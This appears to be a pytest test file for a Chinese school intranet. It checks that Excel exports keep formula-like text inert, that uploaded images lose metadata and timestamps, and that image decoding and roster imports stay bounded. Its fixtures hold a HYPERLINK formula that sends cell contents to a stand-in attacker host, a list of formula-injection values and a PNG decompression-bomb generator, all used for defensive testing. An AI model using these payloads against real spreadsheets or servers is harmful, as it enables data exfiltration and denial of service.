"""What leaves the intranet as a file, and what an upload may cost: workbooks hold no formulas
and carry Chinese names (SECURITY.md M); re-encoded images keep no metadata and no file keeps a
time of day (L); image decoding and the roster import are bounded (M)."""

import io
import os
import re
import threading
import time
import zipfile
from datetime import date, datetime, timedelta
from datetime import time as clock_time
from pathlib import Path
from urllib.parse import quote
from zoneinfo import ZoneInfo

import pytest
from openpyxl import Workbook, load_workbook
from PIL import Image, PngImagePlugin
from werkzeug.datastructures import FileStorage

from intranet import uploads
from intranet.achievements.models import Achievement, WorkReport
from intranet.clock import school_today
from intranet.extensions import db
from intranet.mentoring.models import Agreement, Observation, Pairing
from intranet.people.models import ExternalMentor, PoolMembership, Staff, StudioDuty
from intranet.schedule.models import Activity, Attendance, PartnerSchool, Semester
from intranet.suggestions.models import AnonymousSuggestion, Suggestion
from tests.conftest import as_user, csrf_token, htmx, login_as

# What a colleague could type into any text field, hoping a manager opens the export in Excel.
LINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
SHORT_LINK = '=HYPERLINK("http://e.cn/?"&A1,"点我")'  # fits a 40-character name
HOSTILE = [LINK, "+1", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1+1"]
CANARY = "CANARY-8f3a"


# --- workbooks: text stays text ---------------------------------------------------------


@pytest.fixture
def hostile_school(app, make_staff):
    """A semester whose every text field that reaches a workbook holds a formula-like value."""
    with app.app_context():
        today = school_today()
    leader = make_staff(role="leader", username="leader1", name="周文华")
    author = make_staff(
        username="=1+1",
        name=SHORT_LINK,
        title="+1",
        subject="-1+2",
        grade_group="@SUM(A1)",
        campus="\t=1+1",
    )
    colleague = make_staff(username="t2", name="王晓燕")
    with app.app_context():
        semester = Semester(
            name="本学期",
            start=today - timedelta(days=30),
            end=today + timedelta(days=60),
            is_current=True,
        )
        school = PartnerSchool(name=SHORT_LINK)
        mentor = ExternalMentor(
            name=SHORT_LINK, organisation="+1", speciality="-1+2", contact="@SUM(A1)"
        )
        db.session.add_all([semester, school, mentor])
        db.session.flush()
        activity = Activity(
            semester_id=semester.id,
            date=today,
            theme=LINK,
            place="+1",
            procedure="-1+2",
            summary="@SUM(A1)",
            status="done",
            responsible_id=author,
            partner_school_id=school.id,
        )
        db.session.add(activity)
        db.session.flush()
        activity.presenters.append(db.session.get(Staff, author))
        pairing = Pairing(
            mentor_id=author,
            apprentice_id=colleague,
            state="active",
            start_semester_id=semester.id,
            end_semester_id=semester.id,
        )
        db.session.add(pairing)
        db.session.flush()
        db.session.add_all(
            [
                StudioDuty(staff_id=author, duty=LINK),
                PoolMembership(staff_id=author, pool="mentor", since=today, note="-1+2"),
                Attendance(
                    activity_id=activity.id, staff_id=colleague, status="excused", reason=LINK
                ),
                Observation(
                    activity_id=activity.id,
                    observer_id=colleague,
                    teacher_id=author,
                    strengths=LINK,
                    suggestions="\r=1+1",
                ),
                Agreement(pairing_id=pairing.id, mentor_duties=LINK, apprentice_goals="@SUM(A1)"),
                Achievement(
                    staff_id=author,
                    kind="award",
                    level="national",
                    title=LINK,
                    issuer="+1",
                    awarded_on=today,
                ),
                WorkReport(
                    staff_id=author,
                    semester_id=semester.id,
                    body=LINK,
                    review="-1+2",
                    state="submitted",
                    submitted_at=datetime(2026, 3, 9, tzinfo=ZoneInfo("UTC")),
                ),
            ]
        )
        db.session.commit()
        return {"leader": leader, "semester": semester.id}


def workbooks(client, semester_id) -> dict[str, bytes]:
    """Every workbook the intranet exports, by the name it downloads as."""
    found = {}
    for url in (
        "/mentoring/talent/export.xlsx",
        "/schedule/export.xlsx",
        "/achievements/evaluation/export.xlsx",
        "/people/export.xlsx",
    ):
        r = client.get(url)
        assert r.status_code == 200, url
        found[url] = r.data
    r = client.get(f"/archive/{semester_id}.zip")
    archive = zipfile.ZipFile(io.BytesIO(r.data))
    for name in archive.namelist():
        if name.endswith(".xlsx"):
            found[name] = archive.read(name)
    return found


def test_M_no_exported_workbook_holds_a_formula_and_the_text_survives(app, hostile_school):
    client = as_user(app, hostile_school["leader"])
    books = workbooks(client, hostile_school["semester"])
    assert len(books) == 5
    for name, data in books.items():
        with zipfile.ZipFile(io.BytesIO(data)) as parts:
            for part in parts.namelist():
                if part.startswith("xl/worksheets/"):
                    assert b"<f>" not in parts.read(part) and b"<f " not in parts.read(part)
        values = []
        for sheet in load_workbook(io.BytesIO(data)).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, sheet.title, cell.coordinate)
                    values.append(cell.value)
        assert LINK in values or SHORT_LINK in values, (
            name
        )  # shown exactly as typed, not emptied or escaped
    archive = load_workbook(io.BytesIO(books["本学期资料附录.xlsx"]))
    archive_values = {c.value for s in archive.worksheets for r in s.iter_rows() for c in r}
    # XML reads a carriage return back as a line feed; the campus is not in the archive.
    assert {v.replace("\r", "\n") for v in HOSTILE} - {"\t=1+1"} <= archive_values


def test_M_workbook_columns_fit_chinese_text(app, hostile_school):
    client = as_user(app, hostile_school["leader"])
    sheet = load_workbook(io.BytesIO(client.get("/mentoring/talent/export.xlsx").data))[
        "成员及分工"
    ]
    # 分工 holds the 40-character link; 序号 only a number: a fitted column, not one width.
    assert sheet.column_dimensions["E"].width > sheet.column_dimensions["A"].width


@pytest.mark.parametrize(
    "url, name",
    [
        ("/mentoring/talent/export.xlsx", "组织管理成员及分工一览表.xlsx"),
        ("/people/export.xlsx", "教职工名册.xlsx"),
        ("/people/import/template.csv", "名册导入模板.csv"),
        ("/schedule/export.xlsx", "本学期活动安排.xlsx"),
        ("/achievements/evaluation/export.xlsx", "本学期评估结果.xlsx"),
        ("/archive/{semester}.zip", "本学期资料附录.zip"),
    ],
)
def test_downloads_carry_their_chinese_name(app, make_staff, hostile_school, url, name):
    admin = make_staff(role="admin", username="admin1")
    client = as_user(app, admin)
    r = client.get(url.format(semester=hostile_school["semester"]))
    assert r.status_code == 200
    disposition = r.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f"filename*=UTF-8''{quote(name)}" in disposition
    assert r.headers["Cache-Control"] == "private, no-store"


# --- uploads: metadata, time of day ------------------------------------------------------


def icc_profile_with(text: str) -> bytes:
    """A real sRGB profile carrying `text`, as a profile's description would carry a name."""
    from PIL import ImageCms

    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return profile + text.encode()


def jpeg_with_every_block() -> bytes:
    image = Image.new("RGB", (64, 48), "orange")
    exif = Image.Exif()
    exif[0x013B] = CANARY  # Artist
    out = io.BytesIO()
    xmp = f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:creator>{CANARY}</dc:creator></x:xmpmeta>'
    image.save(
        out,
        "JPEG",
        exif=exif,
        comment=CANARY,
        icc_profile=icc_profile_with(CANARY),
        xmp=xmp.encode(),
    )
    data = out.getvalue()
    assert data.count(CANARY.encode()) >= 4  # the test file really carries every block
    return data


def png_with_every_block() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", CANARY)
    info.add_itxt("Description", CANARY)
    info.add_text("Comment", CANARY, zip=True)  # zTXt: compressed, so only a decoder sees it
    out = io.BytesIO()
    Image.new("RGB", (64, 48), "teal").save(
        out, "PNG", pnginfo=info, icc_profile=icc_profile_with(CANARY)
    )
    return out.getvalue()


def has_canary(data: bytes) -> bool:
    if CANARY.encode() in data:
        return True
    with Image.open(io.BytesIO(data)) as image:  # a compressed chunk, read back by Pillow
        return any(CANARY in str(value) for value in image.info.values())


@pytest.mark.parametrize("make", [jpeg_with_every_block, png_with_every_block])
def test_L_reencoded_image_and_thumbnail_keep_no_metadata_block(app, make):
    data = make()
    assert has_canary(data)
    with app.test_request_context():
        checked = uploads.check(data, (uploads.IMAGE,))
    assert not has_canary(checked.data) and not has_canary(checked.thumbnail)
    with Image.open(io.BytesIO(checked.data)) as image:
        assert not {"icc_profile", "exif", "comment", "xmp"} & set(image.info)


@pytest.fixture
def anonymous_photo(app, make_staff):
    """An anonymous suggestion with a photo, as a teacher sends it; the leader who reads it."""
    teacher = as_user(app, make_staff(username="canary-user"), "/suggestions/new")
    leader = as_user(app, make_staff(role="leader", username="principal"), "/suggestions")
    r = teacher.post(
        "/suggestions",
        data={
            "category": "activities",
            "title": "活动太多",
            "body": "希望减少重复的听课活动。",
            "identity": "anonymous",
            "attachment": (io.BytesIO(jpeg_with_every_block()), "我.jpg"),
        },
        headers=htmx(**{"X-CSRFToken": teacher.token}),
        content_type="multipart/form-data",
    )
    assert r.status_code == 200
    with app.app_context():
        item = db.session.scalar(db.select(AnonymousSuggestion))
        return {
            "leader": leader,
            "ref": item.ref,
            "path": item.attachment.path,
            "thumb": item.attachment.thumb_path,
            "day": item.attachment.created_on,
        }


@pytest.fixture
def named_photo(app, make_staff):
    """A named suggestion's photo: stored as a file, like certificates and activity photos."""
    teacher = as_user(app, make_staff(username="named-user"), "/suggestions/new")
    teacher.post(
        "/suggestions",
        data={
            "category": "activities",
            "title": "实名的",
            "body": "附一张照片。",
            "identity": "named",
            "attachment": (io.BytesIO(jpeg_with_every_block()), "照片.jpg"),
        },
        headers=htmx(**{"X-CSRFToken": teacher.token}),
        content_type="multipart/form-data",
    )
    with app.app_context():
        attachment = db.session.scalar(db.select(Suggestion)).attachment
        return {
            "path": attachment.path,
            "thumb": attachment.thumb_path,
            "day": attachment.created_on,
        }


def test_L_an_anonymous_photo_is_kept_in_its_row_and_writes_no_file(app, make_staff):
    """A file's ctime and its folder's mtime cannot be set back: an anonymous photo on disk
    would record the hour it came. Nothing in uploads/ changes when one is sent."""
    folder = Path(app.config["UPLOAD_FOLDER"])
    folder.mkdir(parents=True, exist_ok=True)
    before = (sorted(folder.iterdir()), os.stat(folder).st_mtime_ns)
    teacher = as_user(app, make_staff(username="canary-user"), "/suggestions/new")
    r = teacher.post(
        "/suggestions",
        data={
            "category": "activities",
            "title": "活动太多",
            "body": "附图。",
            "identity": "anonymous",
            "attachment": (io.BytesIO(jpeg_with_every_block()), "我.jpg"),
        },
        headers=htmx(**{"X-CSRFToken": teacher.token}),
        content_type="multipart/form-data",
    )
    assert r.status_code == 200
    assert (sorted(folder.iterdir()), os.stat(folder).st_mtime_ns) == before
    with app.app_context():
        attachment = db.session.scalar(db.select(AnonymousSuggestion)).attachment
        assert attachment.content.startswith(b"\xff\xd8") and not attachment.path.exists()
        assert not has_canary(attachment.content) and not has_canary(attachment.thumb_content)


def midnight(app, day: date) -> float:
    return datetime.combine(day, datetime.min.time(), ZoneInfo(app.config["TIME_ZONE"])).timestamp()


def test_L_anonymous_attachment_is_served_with_no_time_and_no_metadata(
    app, anonymous_photo, travel
):
    # Leaders see anonymous suggestions from seven the next morning (the daily batch).
    day = anonymous_photo["day"] + timedelta(days=1)
    travel(datetime.combine(day, clock_time(7, 0), ZoneInfo(app.config["TIME_ZONE"])))
    r = anonymous_photo["leader"].get(f"/suggestions/{anonymous_photo['ref']}/attachment")
    assert r.status_code == 200 and r.mimetype == "image/jpeg"
    assert "Last-Modified" not in r.headers and "ETag" not in r.headers
    about_the_file = " ".join(v for k, v in r.headers if k not in ("Date", "Set-Cookie"))
    assert not re.search(r"\d\d:\d\d", about_the_file)
    assert not has_canary(r.data)


def test_L_stored_files_are_dated_midnight_of_the_school_day(app, named_photo):
    with app.app_context():
        assert named_photo["day"] == school_today()
    for path in (named_photo["path"], named_photo["thumb"]):
        assert os.stat(path).st_mtime == midnight(app, named_photo["day"])


@pytest.mark.sqlite_only  # flask backup copies SQLite; PostgreSQL is backed up with pg_dump
def test_L_a_backup_keeps_the_midnight_of_every_upload(app, named_photo, tmp_path):
    from intranet.backup import make_backup

    with app.app_context():
        target = make_backup(tmp_path / "backups")
    copy = target / "uploads" / named_photo["path"].name
    assert os.stat(copy).st_mtime == midnight(app, named_photo["day"])


# --- uploads: bounded decoding -----------------------------------------------------------


def png_bomb(side: int = 6324) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (side, side)).save(out, "PNG", optimize=True)
    return out.getvalue()


def peak_rss_mb() -> float:
    with open("/proc/self/status") as status:
        return int(re.search(r"VmHWM:\s+(\d+)", status.read()).group(1)) / 1024


def reset_peak_rss() -> None:
    """Linux resets VmHWM when 5 is written to clear_refs (where the kernel allows it)."""
    try:
        with open("/proc/self/clear_refs", "w") as refs:
            refs.write("5")
    except OSError:
        pass


def test_M_eight_parallel_png_bombs_stay_under_a_gigabyte_and_do_not_hang(app):
    bomb = png_bomb()
    assert len(bomb) < 200_000  # tiny on the wire, 40 megapixels once decoded
    outcomes: list[str] = []

    def upload():
        with app.test_request_context():
            try:
                uploads.check(bomb, (uploads.IMAGE,))
                outcomes.append("stored")
            except uploads.ServerBusy:
                outcomes.append("busy")
            except uploads.UploadError:
                outcomes.append("refused")

    reset_peak_rss()
    before = peak_rss_mb()
    started = time.monotonic()
    threads = [threading.Thread(target=upload) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=30)
    assert not any(thread.is_alive() for thread in threads)
    assert time.monotonic() - started < uploads.DECODE_WAIT + 10
    assert len(outcomes) == 8 and "stored" in outcomes
    assert set(outcomes) <= {"stored", "busy"}
    assert peak_rss_mb() - before < 1024  # eight decodes at once would need about 1.3 GB


def test_M_decodes_wait_for_a_slot_and_a_busy_server_says_so(app, make_staff, monkeypatch):
    monkeypatch.setattr(uploads, "DECODE_WAIT", 0.1)
    for _ in range(uploads.DECODE_SLOTS):
        assert uploads._decodes.acquire(timeout=1)
    try:
        teacher = as_user(app, make_staff(), "/suggestions/new")
        out = io.BytesIO()
        Image.new("RGB", (10, 10)).save(out, "PNG")
        r = teacher.post(
            "/suggestions",
            data={
                "category": "activities",
                "title": "标题",
                "body": "内容",
                "identity": "named",
                "attachment": (io.BytesIO(out.getvalue()), "a.png"),
            },
            headers=htmx(**{"X-CSRFToken": teacher.token}),
            content_type="multipart/form-data",
        )
    finally:
        for _ in range(uploads.DECODE_SLOTS):
            uploads._decodes.release()
    assert r.status_code == 503 and "服务器正忙，请稍后再试" in r.get_data(as_text=True)
    assert r.headers["HX-Retarget"] == "#messages"  # the form and its text stay on screen


def test_M_fifty_megapixel_photo_is_taken_and_scaled_down(app):
    out = io.BytesIO()
    Image.new("RGB", (8160, 6120), "white").save(out, "JPEG", quality=50)  # a 50 MP phone
    with app.test_request_context():
        checked = uploads.check(out.getvalue(), (uploads.IMAGE,))
    with Image.open(io.BytesIO(checked.data)) as image:
        assert max(image.size) == uploads.MAX_SIDE


def test_M_one_person_may_upload_thirty_files_in_ten_minutes(app, make_staff, monkeypatch):
    """Counted in memory by staff id and forgotten after the window; nothing is written."""
    from flask_login import login_user

    small = io.BytesIO()
    Image.new("RGB", (8, 8)).save(small, "PNG")
    upload = FileStorage(io.BytesIO(), "a.png")
    upload.read = small.getvalue
    teacher, other = make_staff(), make_staff()
    with app.test_request_context():
        login_user(db.session.get(Staff, teacher))
        for _ in range(uploads.RATE_FILES):
            uploads.store(upload, (uploads.IMAGE,))
        with pytest.raises(uploads.UploadError, match="上传太频繁"):
            uploads.store(upload, (uploads.IMAGE,))
        later = time.monotonic() + uploads.RATE_WINDOW + 1
        monkeypatch.setattr(uploads.time, "monotonic", lambda: later)
        uploads.store(upload, (uploads.IMAGE,))  # the window has passed
    with app.test_request_context():
        login_user(db.session.get(Staff, other))
        uploads.store(upload, (uploads.IMAGE,))  # one person's count is not another's


# --- the roster import reads no further than it takes -------------------------------------


def roster_xlsx(rows: int) -> bytes:
    """A roster of `rows` 工号 under the two headers. openpyxl writes the workbook; its sheet's
    rows are then written as plain XML, which takes a second where openpyxl takes ten."""
    book = Workbook()
    book.active.append(["工号", "姓名"])
    out = io.BytesIO()
    book.save(out)
    sheet_name = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    xml = parts[sheet_name].decode().replace('ref="A1:B1"', f'ref="A1:B{rows + 1}"')
    head, _, tail = xml.partition("</row>")
    body = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(2, rows + 2))
    parts[sheet_name] = f"{head}</row>{body}{tail}".encode()
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return result.getvalue()


def import_roster(app, make_staff, data: bytes):
    client = app.test_client()
    login_as(client, app, make_staff(role="admin", username="admin1"))
    token = csrf_token(client, "/people/import")
    started = time.monotonic()
    r = client.post(
        "/people/import",
        data={"csrf_token": token, "roster": (io.BytesIO(data), "名册.xlsx")},
        content_type="multipart/form-data",
    )
    return r, time.monotonic() - started


def test_M_a_600000_row_roster_is_refused_in_under_two_seconds(app, make_staff):
    r, seconds = import_roster(app, make_staff, roster_xlsx(600_000))
    assert seconds < 2
    assert r.status_code == 422 and "一次最多导入 2000 行" in r.get_data(as_text=True)


def test_M_roster_reading_stops_at_the_row_limit(app, make_staff, monkeypatch):
    from intranet.people import roster

    read = []
    original = roster._limited
    monkeypatch.setattr(
        roster, "_limited", lambda rows: original(read.append(1) or row for row in rows)
    )
    r, _ = import_roster(app, make_staff, roster_xlsx(20_000))
    assert r.status_code == 422 and "一次最多导入 2000 行" in r.get_data(as_text=True)
    assert len(read) == 1 + 2001  # the header and one row too many; the rest is never parsed


@pytest.mark.sqlite_only
def test_L_upgrading_moves_anonymous_photos_already_sent_into_their_rows(tmp_path):
    """Photos sent before the upgrade leave the disk (where their ctime is the hour they came)
    and stay readable; a named suggestion's photo stays a file."""
    import sqlite3

    from flask_migrate import downgrade, upgrade

    from intranet import create_app
    from tests.conftest import make_config

    app = create_app(make_config(tmp_path))
    folder = Path(app.config["UPLOAD_FOLDER"])
    folder.mkdir(parents=True, exist_ok=True)
    with app.app_context():
        upgrade(revision="0013")
    photo = jpeg_with_every_block()
    with sqlite3.connect(tmp_path / "studio.db") as raw:
        for key in ("a" * 32, "b" * 32):
            raw.execute(
                "INSERT INTO attachment (id, kind, size, created_on) VALUES (?, 'image',"
                " ?, '2026-11-01')",
                (key, len(photo)),
            )
            (folder / f"{key}.jpg").write_bytes(photo)
            (folder / f"{key}.thumb.jpg").write_bytes(photo[:100])
        raw.execute(
            "INSERT INTO anonymous_suggestion (id, receipt_hash, category, title, body, status,"
            " is_public, created_on, attachment_id) VALUES ('k1', 'h', 'other', 't', 'b',"
            " 'pending', 0, '2026-11-01', ?)",
            ("a" * 32,),
        )
    with app.app_context():
        upgrade()
        content, thumb = db.session.execute(
            db.text("SELECT content, thumb_content FROM attachment WHERE id = :id"),
            {"id": "a" * 32},
        ).one()
        assert content == photo and thumb == photo[:100]
    assert sorted(p.name for p in folder.iterdir()) == ["b" * 32 + ".jpg", "b" * 32 + ".thumb.jpg"]
    with app.app_context():
        downgrade(revision="0013")
    assert (folder / f"{'a' * 32}.jpg").read_bytes() == photo, "downgrading writes it back"
